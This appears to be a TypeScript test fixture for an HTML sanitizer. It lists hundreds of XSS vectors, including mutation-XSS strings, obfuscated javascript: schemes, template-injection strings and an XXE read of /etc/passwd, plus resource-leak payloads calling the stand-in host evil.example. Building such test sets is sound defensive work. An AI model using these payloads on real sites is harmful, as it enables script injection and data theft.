const run = 'top.executed=1'

const elements = ['svg', 'math', 'img', 'video', 'audio', 'body', 'details', 'input', 'iframe', 'marquee']
const handlers = ['onload', 'onerror', 'ontoggle', 'onfocus', 'onanimationstart', 'onpointerenter']

const withHandlers = elements.flatMap((element) =>
  handlers.map((handler) => `<${element} src=x open autofocus ${handler}=${run}>`),
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript&#58;',
  'javascript&Tab;:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'view-source:javascript:',
  '//evil.example/',
  '\\\\evil.example\\',
]

const withSchemes = schemes.flatMap((scheme) => [
  `<a href="${scheme}${run}">글</a>`,
  `<iframe src="${scheme}${run}"></iframe>`,
  `<form action="${scheme}${run}"><button formaction="${scheme}${run}">글</button></form>`,
  `[글](${scheme}${run})`,
])

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<svg><style><img title="</style><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><s><template><s><img src=x onerror=${run}>@</s></template>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;">`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>글</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}" /><a id=x></a></svg>`,
  `<svg><set attributeName=onload to=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<math href="javascript:${run}">글</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${run}">글</maction></math>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<p style="background:url(javascript:${run})">글`,
  `<p style="width:expression(${run})">글`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${run})}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  '<base href="https://evil.example/">',
  `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src="javascript:${run}">`,
  `<xml id=x><x><script>${run}</script></x></xml>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `]]><script>${run}</script><![CDATA[`,
  `--><script>${run}</script><!--`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `</title></style></textarea></script><svg onload=${run}>`,
  `"'><img src=x onerror=${run}>`,
  `" autofocus onfocus=${run} x="`,
  `' onmouseover='${run}`,
  `\`onload=${run}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `\ufe64script\ufe65${run}\ufe64/script\ufe65`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<scr\u200bipt>${run}</script>`,
  `<img src=x\u2028onerror=${run}>`,
  `\ud800<script>${run}</script>\udfff`,
  '\ufffe\uffff\u{1fffe}\u{10ffff}',
  '\u0000\u0001\u0008\u000b\u001f\u007f\u0085\u009f',
]

const host = 'https://evil.example'

const leaks = [
  `<img src="${host}/a.png" srcset="${host}/b.png 2x">`,
  `![글](${host}/a.png)`,
  `<link rel=stylesheet href="${host}/a.css"><link rel=prefetch href="${host}"><link rel=dns-prefetch href="${host}">`,
  `<style>@import url(${host}/a.css);body{background:url(${host}/b.png)}</style>`,
  `<p style="background:url(${host}/a.png)">글</p><table background="${host}/b.png"><tr><td>글</table>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<iframe src="${host}"></iframe><object data="${host}"></object><embed src="${host}">`,
  `<video poster="${host}/a.png" src="${host}/a.mp4" autoplay></video><audio src="${host}/a.mp3" autoplay>`,
  `<picture><source srcset="${host}/a.png"><img src="${host}/b.png"></picture>`,
  `<svg><image href="${host}/a.png"/><use href="${host}/a.svg#a"/></svg>`,
  `<script src="${host}/a.js"></script><script>fetch('${host}')</script>`,
  `<form action="${host}"><input name=a autofocus><button>글</button></form>`,
  `<body background="${host}/a.png"><input type=image src="${host}/b.png">`,
]

/** The strings of which a browser itself is asked what it makes. */
export const worst: readonly string[] = [...mutations, ...leaks]

/** Strings in the spirit of the known cheat sheets; were one carried out, it would say so in `top.executed`. */
export const vectors: readonly string[] = [...withHandlers, ...withSchemes, ...mutations, ...leaks]
